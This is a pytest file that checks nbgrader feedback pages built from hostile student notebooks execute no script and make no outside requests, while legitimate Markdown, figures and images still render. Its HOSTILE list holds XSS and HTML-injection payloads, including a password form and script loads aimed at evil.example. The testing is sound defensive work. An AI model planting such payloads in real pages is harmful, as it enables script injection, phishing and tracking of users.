"""Feedback pages of hostile submissions: nothing in them runs or is loaded, and what was meant is shown."""

import html
from html.parser import HTMLParser

import nbformat
import plotly.graph_objects as go
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from course_utils.kit import feedback, outputs

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
OWNED = "window.owned = 1"
HOSTILE = [
    f"<script>{OWNED}</script>",
    f"<ScRiPt src='https://evil.example/x.js'></sCrIpT><script>{OWNED}",
    f"<img src=x onerror='{OWNED}'>",
    f"<svg onload='{OWNED}'><script>{OWNED}</script></svg>",
    f"<iframe srcdoc='<script>parent.owned = 1</script>'></iframe><iframe src='javascript:{OWNED}'></iframe>",
    f"<a href='javascript:{OWNED}'>here</a><a href=' &#1;java\tscript:{OWNED}'>and here</a>",
    "<a href='data:text/html,<script>opener.owned = 1</script>'>there</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={OWNED}&gt;'>",
    "<form action='https://evil.example'><input name=password><button>log in</button></form>",
    "<style>body { display: none }</style><link rel=stylesheet href='https://evil.example/x.css'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example)'>"
    "Score: 100</div>",
    "<img src='https://evil.example/pixel.png'><object data='x.swf'></object><embed src='x.swf'>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"</div></div></body></html><script>{OWNED}</script>",
    f"<details open ontoggle='{OWNED}'>s</details><video><source onerror='{OWNED}'></video>",
    f"<p id=top name=top><form id=x></form><button form=x formaction='javascript:{OWNED}'>b</button>",
    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
]
OWN = "*so* **it** is: $x^2$, `<b>`"
TABLE = '<div style="border-left:5px solid #009E73;padding:4px"><table><tr><td>passed</td></tr></table></div>'


def figure(title: str = "A figure") -> dict:
    return go.Figure(go.Scatter(y=[1, 3, 2]), {"title": {"text": title}}).to_dict()


def submission():
    """All of it in Markdown, in outputs of each kind, in errors and in remarks; honest cells among it."""
    cells = [
        new_markdown_cell(f"{OWN}\n\n![](attachment:p.png)", attachments={"p.png": {"image/png": PIXEL}})
    ]
    shown = [
        {"text/html": TABLE},
        {outputs.PLOTLY: figure(), "text/plain": 'Alt: "a" < b'},
        {"image/png": PIXEL},
    ]
    cells.append(new_code_cell("1", outputs=[new_output("display_data", data) for data in shown]))
    for text in HOSTILE:
        graded = {"grade": False, "solution": True, "grade_id": "a", "comment": f"left out: {text}"}
        cells += [new_markdown_cell(text), new_markdown_cell(text, metadata={"nbgrader": graded})]
        made = [{kind: text} for kind in ("text/html", "text/markdown", "text/plain", "text/latex")]
        made += [{"application/javascript": OWNED}, {"image/svg+xml": text}, {"image/png": text}]
        made += [{outputs.PLOTLY: figure(text), "text/plain": text}]
        results = [new_output("display_data", data) for data in made]
        results.append(
            new_output("display_data", {"text/html": text}, metadata={"text/html": {"isolated": True}})
        )
        results.append(new_output("stream", text=text))
        results.append(new_output("error", ename=text, evalue=text, traceback=[text]))
        cells.append(
            new_code_cell(
                text, outputs=results, metadata={"tags": [text.replace(",", " ")], "nbgrader": graded}
            )
        )
    nb = new_notebook(cells=cells)
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"x": HOSTILE[0]}}
    return nb


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """The page that nbgrader's own template gives, written with what lies beside it."""
    config = Config({"HTMLExporter": {"template_name": "feedback"}})
    config.merge(GenerateFeedback(coursedir=CourseDirectory()).config)
    exporter = feedback.Feedback(config=config)
    names = {"notebook": "42_tiny", "score": 2, "max_score": 5, "late_penalty": 0}
    text, resources = exporter.from_notebook_node(submission(), {"nbgrader": names})
    folder = tmp_path_factory.mktemp("feedback")
    (folder / "42_tiny.html").write_text(text, encoding="utf-8")
    for name, content in resources["outputs"].items():
        (folder / name).write_bytes(content)
    return folder / "42_tiny.html"


class Found(HTMLParser):
    """All elements of a page, with their attributes."""

    def __init__(self, text: str):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))


def test_nothing_in_a_page_runs_or_is_loaded(page):
    elements = Found(page.read_text(encoding="utf-8")).elements
    tags = {tag for tag, _ in elements}
    assert not tags & set("iframe object embed form input base link svg video noscript".split()), tags
    [policy] = [own["content"] for tag, own in elements if tag == "meta" and "http-equiv" in own]
    nonce = policy.split("'nonce-")[1].rstrip("'")
    assert policy == feedback.POLICY.format(nonce=nonce)
    scripts = [own for tag, own in elements if tag == "script"]
    assert scripts == [
        {"nonce": nonce, "src": "plotly.min.js"},
        {"type": "application/json", "id": nonce},
        {"nonce": nonce},
    ]
    for tag, own in elements:
        assert not [name for name in own if name.startswith("on") or name in ("srcdoc", "formaction")], (
            tag,
            own,
        )
        assert tag == "script" or own.get("src", "data:image/").startswith("data:image/"), (tag, own)
        assert own.get("href", "#").startswith(("#", "https:", "mailto:")), (tag, own)
        assert not {"position", "background:", "url("} & set(own.get("style", "").replace("(", "( ").split())


def test_what_was_meant_is_shown(page):
    text = page.read_text(encoding="utf-8")
    assert "<em>so</em> <strong>it</strong>" in text and "<msup><mi>x</mi><mn>2</mn></msup>" in text
    assert text.count(PIXEL) == 2  # the one that was pasted, and the one that was drawn
    assert '<div style="border-left:5px solid #009E73;padding:4px;"><table><tbody><tr><td>passed' in text
    assert 'role="img" aria-label="Alt: &quot;a&quot; &lt; b"' in text
    assert html.escape(f"<script>{OWNED}</script>", quote=False) in text  # one sees what was tried


def test_a_page_without_figures_has_no_script():
    nb = new_notebook(cells=[new_markdown_cell(OWN)])
    text, resources = feedback.Feedback().from_notebook_node(nbformat.from_dict(nb))
    assert "<script" not in text and "script-src 'nonce-" in text
    assert feedback.SCRIPT not in resources.get("outputs", {})


def test_a_browser_runs_nothing_of_it_and_draws_the_figures(page, chromium):
    opened = chromium.new_page()
    asked, errors = [], []
    opened.on("request", lambda request: asked.append(request.url))
    opened.on("pageerror", lambda error: errors.append(str(error)))
    opened.goto(page.as_uri())
    opened.wait_for_function(f"document.querySelectorAll('.main-svg').length >= {len(HOSTILE) + 1}")
    for link in opened.locator("a[href]").all():
        assert not link.get_attribute("href").startswith("javascript")
    assert opened.evaluate("window.owned") is None
    assert {url.split(":")[0] for url in asked} <= {"file", "data", "blob"}, asked
    assert not errors
    assert opened.locator("text=Score: 2.0 / 5.0").is_visible()
